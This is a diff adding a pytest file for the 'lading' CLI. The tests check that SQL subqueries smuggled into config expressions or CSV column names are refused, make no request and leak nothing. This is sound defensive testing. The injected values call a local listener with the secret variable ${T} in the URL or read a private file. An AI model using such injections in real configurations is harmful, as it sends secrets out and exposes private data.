@@ -1,0 +1,161 @@
+"""No command makes a request or reads a file because of an expression."""
+
+from __future__ import annotations
+
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import TYPE_CHECKING
+
+import pytest
+from click.testing import CliRunner
+
+from lading.cli import main
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+
+    from click.testing import Result
+
+    from kit.deployment import Deployment
+
+QUERY = "\"=email IN (SELECT x FROM read_csv('URL'))\""
+COMMANDS = [["validate"], ["plan"], ["status"], ["schedule"], ["sync"]]
+
+
+class Listener(ThreadingHTTPServer):
+    """A host that writes down each request."""
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), Recorder)
+        self.requests: list[str] = []
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server_port}"
+
+
+class Recorder(BaseHTTPRequestHandler):
+    server: Listener
+
+    def do_GET(self) -> None:
+        self.server.requests.append(self.path)
+        self.send_response(404)
+        self.end_headers()
+
+    def do_HEAD(self) -> None:
+        self.do_GET()
+
+    def log_message(self, *_: object) -> None:
+        """Say nothing."""
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    with Listener() as server:
+        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
+        thread.start()
+        yield server
+        server.shutdown()
+        thread.join()
+
+
+@pytest.fixture
+def lading(deployment: Deployment, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Result]:
+    monkeypatch.chdir(deployment.folder)
+    environ = deployment.environ() | {"T": "SUPERSECRET"}
+    return lambda *arguments: CliRunner().invoke(main, list(arguments), env=environ)
+
+
+def change(deployment: Deployment, old: str, new: str) -> None:
+    jobs = deployment.folder / "jobs.yaml"
+    text = jobs.read_text(encoding="utf-8")
+    assert old in text
+    jobs.write_text(text.replace(old, new), encoding="utf-8")
+
+
+@pytest.mark.parametrize("reader", ["read_csv", "read_parquet", "read_ipc", "read_ndjson"])
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("=lower(email)", '"=email IN (SELECT x FROM {call})"'),
+        ("=lower(email)", '"=email IN (FROM {call})"'),
+        ("[{provider: CRM, id: =id}]", '[{{each: {{provider: CRM, id: "=(SELECT x FROM {call})"}}}}]'),
+        ("guests.csv, key: id", 'guests.csv, key: "=id || (SELECT x FROM {call})"'),
+        ("on_removed: delete", 'on_removed: {{mode: delete, record: {{ref: "=(SELECT x FROM {call})"}}}}'),
+    ],
+)
+def test_query_in_an_expression_makes_no_request(
+    deployment: Deployment, lading: Callable[..., Result], listener: Listener, reader: str, old: str, new: str
+) -> None:
+    change(deployment, old, new.format(call=f"{reader}('{listener.url}/x')"))
+    for command in COMMANDS:
+        said = lading(*command)
+        assert said.exit_code == 2, command
+        assert "in an expression" in said.output
+    assert listener.requests == []
+
+
+def test_environment_in_an_expression_is_neither_sent_nor_printed(
+    deployment: Deployment, lading: Callable[..., Result], listener: Listener
+) -> None:
+    change(deployment, "=lower(email)", QUERY.replace("URL", listener.url + "/${T}"))
+    for command in COMMANDS:
+        said = lading(*command)
+        assert said.exit_code == 2, command
+        assert "jobs.yaml:26:14: ${...} inside of an expression" in said.output
+        assert "SUPERSECRET" not in said.output
+    assert listener.requests == []
+
+
+def test_local_file_named_in_an_expression_is_not_printed(
+    deployment: Deployment, lading: Callable[..., Result]
+) -> None:
+    (deployment.folder / "private.csv").write_text("firstline\n", encoding="utf-8")
+    change(deployment, "=lower(email)", "\"=email IN (SELECT x FROM read_csv('private.csv'))\"")
+    for command in COMMANDS:
+        said = lading(*command)
+        assert said.exit_code == 2
+        assert "firstline" not in said.output
+
+
+def test_query_as_a_name_of_a_column_makes_no_request(
+    deployment: Deployment, lading: Callable[..., Result], listener: Listener
+) -> None:
+    source = deployment.folder / "guests.csv"
+    head, _, rest = source.read_text(encoding="utf-8").partition("\n")
+    query = QUERY.strip('"=').replace("URL", f"{listener.url}/x")
+    source.write_text(f'{head},"{query}"\n' + rest.replace("\n", ",a\n"), encoding="utf-8")
+    change(deployment, "=initcap(name)", "=initcap(nmae)")
+    assert "the source has no column 'nmae'" in lading("validate").output
+    change(deployment, "=initcap(nmae)", f'"={query}"')
+    assert lading("validate").exit_code == 2
+    assert listener.requests == []
+
+
+def test_column_named_as_a_word_of_queries_is_read_in_double_quotes(
+    deployment: Deployment, lading: Callable[..., Result]
+) -> None:
+    source = deployment.folder / "guests.csv"
+    source.write_text(source.read_text(encoding="utf-8").replace("email", "select", 1), encoding="utf-8")
+    change(deployment, "=lower(email)", '=lower("select")')
+    assert lading("validate").exit_code == 0
+
+
+@pytest.mark.parametrize(
+    ("expression", "advice"),
+    [
+        ("CASE WHEN (name = 'Y') IS NOT TRUE THEN 'a' ELSE 'b' END", "IS DISTINCT FROM TRUE"),
+        ("CAST(name AS VARCHAR(3))", "LEFT(CAST(x AS VARCHAR), 3)"),
+        ("CAST(name AS DATE)", "DATE(x, '%Y-%m-%d')"),
+    ],
+)
+def test_expression_without_its_meaning_is_refused_by_validate_and_sends_nothing(
+    deployment: Deployment, lading: Callable[..., Result], expression: str, advice: str
+) -> None:
+    change(deployment, "=initcap(name)", f'"={expression}"')
+    for command in ("validate", "sync"):
+        said = lading(command)
+        assert said.exit_code == 2
+        assert "jobs.yaml:25:18: " in said.output
+        assert advice in said.output
+    assert not deployment.delivered("sitecore-cdp")
